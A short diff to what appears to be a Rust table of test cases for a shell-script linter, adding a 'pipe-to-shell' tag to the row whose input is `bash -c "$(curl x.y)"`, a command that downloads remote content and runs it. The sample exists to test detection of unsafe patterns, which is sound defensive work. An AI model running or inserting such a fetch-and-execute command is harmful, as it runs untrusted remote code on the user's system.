@@ -38,7 +38,7 @@ pub(super) const ROWS: &[Row] = &[
     (
         SH,
         "bash -c \"$(curl x.y)\"\n",
-        &["eval-input", "net-undeclared"],
+        &["eval-input", "net-undeclared", "pipe-to-shell"],
         "bash -c 'echo \"$1\"' _ \"$1\"\n",
     ),
     (
